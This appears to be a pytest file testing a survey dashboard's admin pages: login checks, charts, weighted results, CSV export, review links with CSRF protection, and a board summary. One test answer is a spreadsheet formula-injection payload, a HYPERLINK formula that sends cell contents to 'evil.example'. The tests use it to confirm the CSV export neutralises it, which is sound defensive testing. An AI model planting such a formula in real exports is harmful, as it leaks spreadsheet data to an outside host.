"""The dashboard's survey pages over real HTTP: lists, charts, weighting switch, breakdown,
free-text search, CSV, review links made and revoked from the page, the board summary and
the panelbot_survey_decisions hook."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from bot.app import Bot
from bot.engine.waves import launch
from bot.plugin_api import hookimpl
from bot.results import results_csv, survey_results
from bot.storage import shares as share_store
from tests.conftest import REPO, Chat, add_survey
from tests.staff_login import csrf_of, signed_in
from tests.webserver import serving

SURVEY = REPO / "tests" / "data" / "every-type.toml"
GP = REPO / "examples" / "surveys" / "gp-access.toml"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# (sign-up replies: age band, sex), then the answers: ease, [why_hard], score, online, days, comment
PEOPLE = [
    ("sim:ann", ("1", "1"), ["1", "4", "yes", "3", "The waiting list was long"]),
    ("sim:bob", ("2", "2"), ["3", "1 2", "2", "no", "10", FORMULA]),
    ("sim:cat", ("3", "1"), ["3", "3", "1", "yes", "30", "Phone queue <b>forever</b>"]),
]


async def _fill(bot: Bot) -> int:
    await add_survey(bot, SURVEY)
    chat = Chat(bot)
    for address, signup, _ in PEOPLE:
        await chat.join(address, signup)
    wave_id = await launch(bot, "every-type")
    for address, _, answers in PEOPLE:
        for text in answers:
            await chat.say(address, text)
    return wave_id


@pytest.fixture
async def site(bot: Bot) -> AsyncIterator[tuple[str, int]]:
    wave_id = await _fill(bot)
    async with serving(bot, start_bot=False) as base:
        yield base, wave_id


@pytest.fixture
async def http(bot: Bot, site: tuple[str, int]) -> AsyncIterator[httpx.AsyncClient]:
    """A client of the served site, signed in as an admin."""
    async with httpx.AsyncClient(base_url=site[0]) as client:
        await signed_in(client, bot.db)
        yield client


async def test_pages_need_a_login(site: tuple[str, int]) -> None:
    base, wave_id = site
    async with httpx.AsyncClient(base_url=base) as http:
        for path in (
            "/admin/surveys",
            "/admin/surveys/every-type",
            "/admin/surveys/every-type/results.csv",
            f"/admin/surveys/every-type/waves/{wave_id}/summary",
        ):
            answer = await http.get(path)
            assert answer.status_code == 303, path
            assert answer.headers["location"].startswith("/admin/login?next=")
        assert (await http.post("/admin/surveys/every-type/shares")).status_code == 403


async def test_survey_list_and_page_show_waves_results_and_charts(
    site: tuple[str, int], http: httpx.AsyncClient
) -> None:
    wave_id = site[1]
    listing = await http.get("/admin/surveys")
    assert listing.status_code == 200
    assert 'href="/admin/surveys/every-type"' in listing.text
    assert f"/admin/surveys/every-type/waves/{wave_id}/summary" in listing.text
    page = await http.get("/admin/surveys/every-type")
    assert page.status_code == 200
    text = page.text
    assert "Invited 3, started 3, completed 3" in text
    assert f"Wave {wave_id}: invited, started and completed over time" in text
    # The ease question: 1 of 3 easy, 2 of 3 hard, as a chart with its table.
    assert '<th scope="row">Easy</th><td>33.3%</td>' in text
    assert '<th scope="row">Hard</th><td>66.7%</td>' in text
    assert "<strong>Unweighted</strong> results" in text
    # Response rate by group (bot.wave_report), and the cost per completed response.
    assert f"Wave {wave_id}: response rate by sex" in text
    assert '<th scope="row">female</th><td>100%</td><td>2 of 2 invited</td>' in text
    assert "cost per completed response £0.00" in text
    # Free text is escaped.
    assert "Phone queue &lt;b&gt;forever&lt;/b&gt;" in text
    assert "<b>forever</b>" not in text


async def test_weighted_switch_says_why_when_no_plugin_weights(http: httpx.AsyncClient) -> None:
    page = await http.get("/admin/surveys/every-type?weighted=1")
    assert page.status_code == 200
    assert 'id="why-unweighted"' in page.text
    assert "no plugin provides weights" in page.text
    assert 'id="w-yes" name="weighted" value="1" checked' in page.text


async def test_weighted_results_show_margins_of_error(settings: Any, tmp_path: Any) -> None:
    class Weights:
        @hookimpl
        def panelbot_results_weights(self, respondents):
            return {
                r["panellist_id"]: 2.0 if r["demographics"].get("sex") == "male" else 1.0
                for r in respondents
            }

    bot = await Bot.create(settings)
    try:
        bot.plugins.pm.register(Weights(), name="test-weights")
        await _fill(bot)
        async with serving(bot, start_bot=False) as base, httpx.AsyncClient(base_url=base) as http:
            await signed_in(http, bot.db)
            page = await http.get("/admin/surveys/every-type?weighted=1")
            assert page.status_code == 200
            assert "<strong>Weighted</strong> results" in page.text
            # bob (male) weighs 2: hard is 3 of 4.
            assert '<th scope="row">Hard</th><td>75%</td>' in page.text
            assert re.search(r"Margins of error \(95%\): Easy 25\.0% ±\d", page.text)
            csv_page = await http.get("/admin/surveys/every-type/results.csv?weighted=1")
            expected = results_csv(await survey_results(bot, "every-type", weighted=True))
            assert csv_page.text == expected
    finally:
        await bot.stop()


async def test_breakdown_search_and_csv(bot: Bot, http: httpx.AsyncClient) -> None:
    by_sex = await http.get("/admin/surveys/every-type?by=sex")
    assert "ease: sex = female (2 answered)" in by_sex.text
    assert "ease: sex = male (1 answered)" in by_sex.text
    bad = await http.get("/admin/surveys/every-type?by=shoe_size")
    assert bad.status_code == 400 and "is not a panel field" in bad.text
    found = await http.get("/admin/surveys/every-type?tq=comment&q=WAITING")
    assert "1 answer containing" in found.text
    assert "The waiting list was long" in found.text
    assert "forever" not in found.text
    # LIKE wildcards are searched for literally.
    none = await http.get("/admin/surveys/every-type?tq=comment&q=%25")
    assert "0 answers containing" in none.text
    assert (await http.get("/admin/surveys/nope")).status_code == 404
    download = await http.get("/admin/surveys/every-type/results.csv?by=sex")
    assert download.status_code == 200
    assert download.headers["content-type"].startswith("text/csv")
    assert "attachment" in download.headers["content-disposition"]
    expected = results_csv(await survey_results(bot, "every-type", by="sex"))
    assert download.text == expected
    assert "'" + FORMULA.replace('"', '""') in download.text
    bad_csv = await http.get("/admin/surveys/every-type/results.csv?by=nope")
    assert bad_csv.status_code == 400


async def test_review_links_from_the_page(bot: Bot, site: tuple[str, int]) -> None:
    base, _ = site
    async with httpx.AsyncClient(base_url=base) as viewer:
        await signed_in(viewer, bot.db, role="viewer")
        page = await viewer.get("/admin/surveys/every-type")
        assert page.status_code == 200 and "Make a review link" not in page.text
        refused = await viewer.post(
            "/admin/surveys/every-type/shares",
            data={"csrf_token": csrf_of(page.text), "days": "7"},
        )
        assert refused.status_code == 403
    async with httpx.AsyncClient(base_url=base) as http:
        csrf = await signed_in(http, bot.db)
        no_csrf = await http.post("/admin/surveys/every-type/shares", data={"days": "7"})
        assert no_csrf.status_code == 403
        bad_days = await http.post(
            "/admin/surveys/every-type/shares", data={"csrf_token": csrf, "days": "9999"}
        )
        assert bad_days.status_code == 400
        made = await http.post(
            "/admin/surveys/every-type/shares",
            data={"csrf_token": csrf, "days": "7", "label": "Healthwatch"},
        )
        assert made.status_code == 200
        link = re.search(r'id="new-link">([^<]+)<', made.text).group(1)
        path = "/review/" + link.rsplit("/review/", 1)[1]
        async with httpx.AsyncClient(base_url=base) as stranger:
            assert (await stranger.get(path)).status_code == 200
            sent = await stranger.post(
                path + "/comments",
                data={"question_id": "ease", "body": "Add 'very hard'", "reviewer": "HW"},
            )
            assert sent.status_code == 303
            page = await http.get("/admin/surveys/every-type")
            assert "Add &#39;very hard&#39;" in page.text
            assert "through the link for Healthwatch" in page.text
            share = (await share_store.of_survey(bot.db.conn, "every-type"))[0]
            revoked = await http.post(
                f"/admin/surveys/every-type/shares/{share.id}/revoke", data={"csrf_token": csrf}
            )
            assert revoked.status_code == 303
            assert (await stranger.get(path)).status_code == 410
            again = await http.post(
                f"/admin/surveys/every-type/shares/{share.id}/revoke", data={"csrf_token": csrf}
            )
            assert again.status_code == 400
    rows = await bot.db.fetchall(
        "SELECT actor, action FROM audit_log WHERE action LIKE 'survey_share%' ORDER BY id"
    )
    assert [r["action"] for r in rows] == ["survey_shared", "survey_share_revoked"]
    assert all(r["actor"].startswith("staff:") for r in rows)


async def test_board_summary(bot: Bot, site: tuple[str, int], http: httpx.AsyncClient) -> None:
    wave_id = site[1]
    await add_survey(bot, GP)
    page = await http.get(f"/admin/surveys/every-type/waves/{wave_id}/summary")
    assert page.status_code == 200
    text = page.text
    assert "100.0%</span> response rate (3 of 3 invited)" in text
    assert "<strong>66.7%</strong> answered “Hard” to “How easy was it?” (2 of 3" in text
    assert "None recorded." in text
    assert 'media="print"' in text and "board-print.css" in text
    assert (
        await http.get(f"/admin/surveys/gp-access-2026/waves/{wave_id}/summary")
    ).status_code == 404
    assert (await http.get("/admin/surveys/every-type/waves/999/summary")).status_code == 404
    css = await http.get("/admin/static/board-print.css")
    assert css.status_code == 200 and "size: A4" in css.text


async def test_hook_survey_decisions(settings: Any) -> None:
    class Register:
        @hookimpl
        async def panelbot_survey_decisions(self, bot, survey_id):
            if survey_id != "every-type":
                return None
            return [
                {
                    "title": "Open <evening> clinics",
                    "status": "decided",
                    "decided_by": "ICB board",
                    "we_did": "Opened two",
                }
            ]

    bot = await Bot.create(settings)
    try:
        bot.plugins.pm.register(Register(), name="test-register")
        wave_id = await _fill(bot)
        async with serving(bot, start_bot=False) as base, httpx.AsyncClient(base_url=base) as http:
            await signed_in(http, bot.db)
            page = await http.get(f"/admin/surveys/every-type/waves/{wave_id}/summary")
            assert "<strong>Open &lt;evening&gt; clinics</strong> (decided, ICB board)" in page.text
            assert "None recorded." not in page.text
    finally:
        await bot.stop()


async def test_ids_beyond_sqlites_integers_are_404_not_500(bot: Bot, site: tuple[str, int]) -> None:
    base, _ = site
    huge = 2**63  # one past SQLite's largest integer
    async with httpx.AsyncClient(base_url=base) as http:
        csrf = await signed_in(http, bot.db, "admin")
        for method, path in (
            ("POST", f"/admin/surveys/every-type/shares/{huge}/revoke"),
            ("POST", f"/admin/surveys/every-type/shares/{10**30}/revoke"),
            ("GET", f"/admin/surveys/every-type/waves/{huge}/summary"),
            ("GET", f"/admin/panellists/{huge}"),
            ("GET", f"/admin/panellists/{huge}/export.json"),
            ("GET", f"/admin/panellists/{huge}/erase"),
            ("POST", f"/admin/panellists/{huge}/erase"),
        ):
            data = {"csrf_token": csrf, "confirm": str(huge)} if method == "POST" else None
            answer = await http.request(method, path, data=data)
            assert answer.status_code == 404, (path, answer.status_code, answer.text[:200])


async def test_a_share_label_is_one_line_and_its_errors_name_the_field(
    bot: Bot, site: tuple[str, int]
) -> None:
    base, _ = site
    async with httpx.AsyncClient(base_url=base) as http:
        csrf = await signed_in(http, bot.db, "admin")
        for label, reason in (
            ("x" * 200, "Label: at most 120 characters"),
            ("Health\nwatch", "Label: one line"),
            ("Health\rwatch", "Label: one line"),
            ("Health\x00watch", "Label: one line"),
        ):
            answer = await http.post(
                "/admin/surveys/every-type/shares",
                data={"csrf_token": csrf, "days": "7", "label": label},
            )
            assert answer.status_code == 400, label
            assert reason in answer.text and "--label" not in answer.text, label
    assert await share_store.of_survey(bot.db.conn, "every-type") == []
